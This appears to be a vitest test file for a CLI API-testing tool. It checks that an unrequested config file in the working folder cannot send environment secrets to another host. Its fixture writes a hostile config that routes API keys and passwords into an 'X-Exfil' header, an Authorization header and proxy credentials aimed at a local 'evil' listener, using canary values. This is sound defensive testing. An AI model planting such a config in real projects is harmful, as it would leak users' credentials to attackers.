import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { expect, onTestFinished, test } from 'vitest';
import { cliWhile, newFolder } from '../../cli/cli.fixture.ts';
import { commandHere } from '../../cli/command.fixture.ts';

const env = {
  CLOUD_KEY: 'canary-cloud',
  GETDATA_DEALER_ID: 'canary-dealer',
  GETDATA_API_KEY: 'canary-key',
  GETDATA_PASSWORD: 'canary-password',
  GETDATA_OTHER: 'canary-other',
};
const canaries = /canary-(\w+)/g;
const few = '--profile quick --seed 1 --bindings soap12 --operations McatCodes,Get_Video_Links'.split(' ');
const SENTENCE = /^! Not taken, because getdata\.config\.json was not named but found in the folder: .*$/gm;

/** A server that keeps every byte of its requests, in text. */
async function listener() {
  const seen: string[] = [];
  const server = createServer(async (request, response) => {
    seen.push(`${request.url} ${request.rawHeaders.join(' ')} ${await text(request)}`);
    response.writeHead(500, { 'Content-Type': 'text/plain' }).end('no');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  const canariesSeen = () => [...new Set([...seen.join('\n').matchAll(canaries)].map(([, name]) => name))].toSorted();
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, canariesSeen };
}

/** A folder with a config file that tries to have secrets sent, and a file of targets. */
function hostileFolder(target: string, evil: string): string {
  const folder = newFolder();
  const config = {
    target: evil,
    credentials: { dealerId: '${GETDATA_OTHER}', apiKey: '${CLOUD_KEY}', password: 'x${CLOUD_KEY}' },
    headers: { 'X-Exfil': '${CLOUD_KEY}', Authorization: '${GETDATA_OTHER}' },
    proxy: evil.replace('//', '//u:${CLOUD_KEY}@'),
    tls: { insecure: true },
    includeWrites: true,
  };
  writeFileSync(join(folder, 'getdata.config.json'), JSON.stringify(config));
  writeFileSync(join(folder, 'targets.json'), JSON.stringify({ targets: [{ name: 'a', target }] }));
  return folder;
}

test.each([
  ['run', (target: string) => ['run', target, ...few]],
  ['compare', (target: string) => ['compare', target, target, ...few]],
  ['a fleet', () => ['run', '--targets', 'targets.json', ...few]],
  ['run --dry-run', (target: string) => ['run', target, '--dry-run', ...few]],
])('%s sends a named target our own variables and no other, and says once what is not taken', async (_what, argv) => {
  const [mine, evil] = [await listener(), await listener()];
  const folder = hostileFolder(mine.url, evil.url);
  const { out } = await commandHere(argv(mine.url), env, folder);
  const isDry = argv('').includes('--dry-run');
  expect(mine.seen.length > 0).toBe(!isDry);
  expect(mine.canariesSeen()).toEqual(isDry ? [] : ['dealer', 'key', 'password']);
  expect(evil.seen).toEqual([]);
  expect(out.match(SENTENCE)).toEqual([
    '! Not taken, because getdata.config.json was not named but found in the folder: headers, proxy, tls, includeWrites, credentials.apiKey, credentials.password; --trust-config takes all of it.',
  ]);
  expect(mine.seen.join('\n')).not.toContain('Add_toCart');
});

test('replay and a second run of what failed do so too', async () => {
  const [mine, evil] = [await listener(), await listener()];
  const folder = hostileFolder(mine.url, evil.url);
  await commandHere(['run', mine.url, ...few], env, folder);
  for (const argv of [
    ['replay', 'reports/results.json', '--target', mine.url],
    ['run', mine.url, '--rerun-failed'],
  ]) {
    mine.seen.length = 0;
    const { out } = await commandHere(argv, env, folder);
    expect(mine.canariesSeen()).toEqual(['dealer', 'key', 'password']);
    expect(out.match(SENTENCE)).toHaveLength(1);
  }
  expect(evil.seen).toEqual([]);
});

test('the proxy adds no header of such a file, and goes through no proxy of it', async () => {
  const [mine, evil] = [await listener(), await listener()];
  const folder = hostileFolder(mine.url, evil.url);
  const call = async (url: string): Promise<void> => void (await fetch(`${url}/getData.asmx/McatCodes`));
  const { out } = await cliWhile(['proxy', mine.url, '--port', '0'], call, { folder, env });
  expect([mine.canariesSeen(), evil.seen, out.match(SENTENCE)?.length]).toEqual([[], [], 1]);
  await cliWhile(['proxy', mine.url, '--port', '0', '--trust-config'], call, { folder, env });
  expect(mine.canariesSeen()).toEqual(['cloud', 'other']);
});

test('a target that only such a file names gets no variable at all; a named file gives what it says', async () => {
  const evil = await listener();
  const folder = hostileFolder(evil.url, evil.url);
  const { out } = await commandHere(['run', ...few], env, folder);
  expect([evil.seen.length > 0, evil.canariesSeen()]).toEqual([true, []]);
  expect(out.match(SENTENCE)?.[0]).toMatch(
    /credentials\.dealerId, GETDATA_DEALER_ID, GETDATA_API_KEY, GETDATA_PASSWORD \(only this file names the target\);/,
  );
  for (const named of [['--trust-config'], ['--config', 'getdata.config.json']]) {
    evil.seen.length = 0;
    const trusted = await commandHere(['run', ...few, ...named], env, folder);
    expect([evil.canariesSeen(), trusted.out.match(SENTENCE)]).toEqual([
      ['cloud', 'dealer', 'key', 'other', 'password'],
      null,
    ]);
  }
});

test('a proxy of such a file is not used for a target elsewhere', async () => {
  const evil = await listener();
  const folder = hostileFolder('http://target.invalid', evil.url);
  const ended = await commandHere(['run', 'http://target.invalid', ...few], env, folder);
  expect([ended.code, evil.seen]).toEqual([4, []]);
  await commandHere(['run', 'http://target.invalid', '--trust-config', ...few], env, folder);
  expect(evil.seen.length).toBeGreaterThan(0);
});
